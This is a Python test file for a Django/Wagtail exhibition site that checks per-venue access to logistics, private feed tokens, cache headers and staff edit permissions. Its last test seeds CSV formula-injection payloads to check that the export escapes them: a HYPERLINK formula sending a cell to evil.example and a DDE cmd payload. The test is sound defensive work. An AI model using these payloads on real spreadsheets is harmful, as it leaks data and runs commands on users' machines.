"""
Venue staff see their own venues' logistics and nobody else's; the public sees no logistics anywhere
(pages, feeds, JSON-LD, search); a revoked or unknown feed token answers 404; staff cannot edit
exhibitions or photographs.
"""

import csv
import io

import icalendar
from datetime import date

from django.core.management import call_command
import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone
from wagtail.models import Page

from exhibit.models import ExhibitionPage

from .conftest import COLUMBIA_LOGISTICS, SPRINGFIELD_LOGISTICS

pytestmark = pytest.mark.django_db

TEXT_LOGISTICS = ["venue_contact", "crate_list", "logistics_notes"]


def logistics_texts(values):
    return [values[key] for key in TEXT_LOGISTICS]


@pytest.fixture
def springfield_staff(django_user_model, springfield):
    user = django_user_model.objects.create_user("spfstaff", "s@example.org", "pw")
    user.groups.add(Group.objects.get(name="Venue staff"))
    springfield.staff.add(user)
    return user


def test_springfield_staff_see_springfield_logistics_not_columbias(client, tour, springfield_staff):
    client.force_login(springfield_staff)
    html = client.get(reverse("exhibit:staff_schedule")).content.decode()
    for value in logistics_texts(SPRINGFIELD_LOGISTICS):
        assert value in html
    for value in logistics_texts(COLUMBIA_LOGISTICS):
        assert value not in html
    assert "The Columbia Public Library" not in html
    assert "Monday, March 3, 2014" in html  # deliver by
    assert "Saturday, March 29, 2014, Time TBA" in html
    assert "Pre-exhibit form received" in html and "Final report" in html

    response = client.get(reverse("exhibit:staff_schedule_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == [
        "Date", "Time", "Start", "End", "Venue", "Exhibition", "What", "Status", "Details",
        "Venue contact", "Crates", "Notes",
    ]
    assert [row[0] for row in rows[1:]] == sorted(row[0] for row in rows[1:])
    stop = logistics_texts(SPRINGFIELD_LOGISTICS)
    venue = "Park Central Branch Library"
    assert ["2014-03-03", "", "2014-03-03", "", venue, tour.title, "Deliver by", "", "", *stop] in rows
    assert ["2014-03-29", "Time TBA", "2014-03-29", "", venue, tour.title, "Closing reception", "", "", *stop] in rows
    assert ["2014-03-15", "2-3 pm", "2014-03-15T14:00", "2014-03-15T15:00", venue, tour.title, "Sample gallery talk",
            "Cancelled", "", *stop] in rows
    assert not any("Columbia" in cell for row in rows for cell in row)
    assert response["Content-Disposition"] == (
        f'attachment; filename="venue-schedule-park-central-branch-library-{timezone.localdate().isoformat()}.csv"'
    )


def cache_directives(response):
    return {part.strip() for part in response.get("Cache-Control", "").split(",") if part.strip()}


def test_schedule_csv_and_feed_are_private_for_every_cache(client, tour, springfield_staff):
    client.force_login(springfield_staff)
    client.post(reverse("exhibit:staff_feed_create"))
    feed_url = springfield_staff.schedule_feed_tokens.get().get_absolute_url()
    for url in (reverse("exhibit:staff_schedule"), reverse("exhibit:staff_schedule_csv"), feed_url):
        response = client.get(url)
        assert response.status_code == 200, url
        assert {"private", "no-store"} <= cache_directives(response), url
        assert "public" not in cache_directives(response), url
    client.logout()
    # The login redirect, too, is not kept by a shared cache.
    assert {"private", "no-store"} <= cache_directives(client.get(reverse("exhibit:staff_schedule")))


def test_schedule_needs_a_login(client, tour):
    response = client.get(reverse("exhibit:staff_schedule"))
    assert response.status_code == 302 and "/admin/login/" in response["Location"]
    assert client.get(reverse("exhibit:staff_schedule_csv")).status_code == 302


def test_private_feed_has_logistics_and_answers_404_once_revoked(client, tour, springfield_staff):
    client.force_login(springfield_staff)
    client.post(reverse("exhibit:staff_feed_create"))
    token = springfield_staff.schedule_feed_tokens.get()
    assert token.get_absolute_url() in client.get(reverse("exhibit:staff_schedule")).content.decode()

    client.logout()  # a calendar app fetches the feed with no session
    response = client.get(token.get_absolute_url())
    assert response.status_code == 200
    calendar = icalendar.Calendar.from_ical(response.content)
    summaries = [str(event["SUMMARY"]) for event in calendar.walk("VEVENT")]
    assert f"Deliver by: {tour.title} (Park Central Branch Library)" in summaries
    assert f"Pack by: {tour.title} (Park Central Branch Library)" in summaries
    unfolded = response.content.replace(b"\r\n ", b"").decode()
    assert "Springfield crate SPFCRATE-77" in unfolded
    assert "COLCRATE-42" not in unfolded and "Columbia" not in unfolded

    client.force_login(springfield_staff)
    client.post(reverse("exhibit:staff_feed_revoke"))
    client.logout()
    assert client.get(token.get_absolute_url()).status_code == 404
    assert client.get(reverse("exhibit:staff_feed", args=["not-a-real-token"])).status_code == 404


def test_making_a_new_feed_link_revokes_the_old(client, springfield_staff):
    client.force_login(springfield_staff)
    client.post(reverse("exhibit:staff_feed_create"))
    first = springfield_staff.schedule_feed_tokens.get()
    client.post(reverse("exhibit:staff_feed_create"))
    assert client.get(first.get_absolute_url()).status_code == 404
    assert springfield_staff.schedule_feed_tokens.filter(revoked_at__isnull=True).count() == 1


def test_anonymous_visitors_see_no_logistics_anywhere(client, tour, springfield, columbia, home):
    from exhibit.models import ExhibitionIndexPage

    index = home.add_child(instance=ExhibitionIndexPage(title="Exhibitions", slug="exhibitions"))
    urls = [
        "/", index.url, tour.url, springfield.get_absolute_url(), columbia.get_absolute_url(),
        reverse("exhibit:events"),
        reverse("exhibit:exhibition_calendar", args=[tour.slug]),
        reverse("exhibit:venue_calendar", args=[springfield.slug]),
        reverse("exhibit:venue_calendar", args=[columbia.slug]),
        reverse("exhibit:site_calendar"),
    ]
    secrets = [value.encode() for value in logistics_texts(SPRINGFIELD_LOGISTICS) + logistics_texts(COLUMBIA_LOGISTICS)]
    secrets += [b"SPFCRATE", b"COLCRATE", b"Deliver by", b"Pack by", b"Install from", b"Insurance"]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        # iCalendar folds long lines; unfold before searching.
        body = response.content.replace(b"\r\n ", b"")
        for secret in secrets:
            assert secret not in body, (url, secret)
    # Logistics dates never appear as calendar entries either (deliver by March 3, pack by March 31).
    site = icalendar.Calendar.from_ical(client.get(reverse("exhibit:site_calendar")).content)
    starts = {str(event.decoded("DTSTART"))[:10] for event in site.walk("VEVENT")}
    assert not starts & {"2014-03-03", "2014-03-04", "2014-03-31", "2014-04-01", "2014-04-28"}
    # Nor in search (which does find the exhibition by its public words). Index updates wait for a
    # commit that a test transaction never makes, so build the index as `update_index` would.
    call_command("update_index", verbosity=0)
    assert [page.pk for page in ExhibitionPage.objects.live().search("photographic")] == [tour.pk]
    for word in ["SPFCRATE-77", "Quimby", "loading dock", "Marchetti"]:
        assert list(ExhibitionPage.objects.live().search(word)) == []
        assert list(Page.objects.live().search(word)) == []


def test_venue_staff_cannot_edit_exhibitions_or_photographs(client, tour, springfield_staff, make_photo):
    photo = make_photo(title="A porch")
    client.force_login(springfield_staff)
    # Their admin home is their schedule: an empty dashboard has nothing for them.
    assert client.get(reverse("wagtailadmin_home"))["Location"] == reverse("exhibit:staff_schedule")
    for url in [
        reverse("wagtailadmin_pages:edit", args=[tour.pk]),
        reverse("wagtailadmin_pages:add", args=["exhibit", "exhibitionpage", tour.get_parent().pk]),
        reverse("wagtailimages:edit", args=[photo.pk]),
        reverse("wagtailimages:add"),
        reverse("wagtailsnippets_exhibit_venue:edit", args=[tour.showings.first().venue.pk]),
    ]:
        response = client.get(url)
        assert response.status_code in (302, 403), url
        if response.status_code == 302:
            assert response["Location"] in ("/admin/", reverse("wagtailadmin_home")), url
    before = tour.title
    response = client.post(reverse("wagtailadmin_pages:edit", args=[tour.pk]), {"title": "Defaced"})
    assert response.status_code in (302, 403)
    tour.refresh_from_db()
    assert tour.title == before


def test_staff_without_a_venue_see_an_explanation_not_other_venues(client, tour, django_user_model):
    user = django_user_model.objects.create_user("newstaff", "n@example.org", "pw")
    user.groups.add(Group.objects.get(name="Venue staff"))
    client.force_login(user)
    html = client.get(reverse("exhibit:staff_schedule")).content.decode()
    assert "not linked to a venue" in html
    for value in logistics_texts(SPRINGFIELD_LOGISTICS) + logistics_texts(COLUMBIA_LOGISTICS):
        assert value not in html


def test_staff_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_shown_as_text(
    client, make_exhibition, springfield, springfield_staff
):
    hostile = {
        "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "speakers": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    others = ["+1+2", "-2+3", "\tTAB", "\rCR"]
    make_exhibition(title="Formulas", stops=[(springfield, date(2014, 3, 7), date(2014, 3, 29), {}, [
        {"kind": "gallery_talk", "date": date(2014, 3, 10), **hostile},
        *({"kind": "artist_talk", "date": date(2014, 3, 11 + n), "title": title} for n, title in enumerate(others)),
    ])])
    client.force_login(springfield_staff)
    rows = list(csv.reader(io.StringIO(client.get(reverse("exhibit:staff_schedule_csv")).content.decode())))
    cells = [cell for row in rows for cell in row]
    assert "'" + hostile["title"] in cells
    assert "'" + hostile["speakers"] in cells
    for title in others:
        assert "'" + title in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "Exhibition opens" in cells  # ordinary text stays as it was
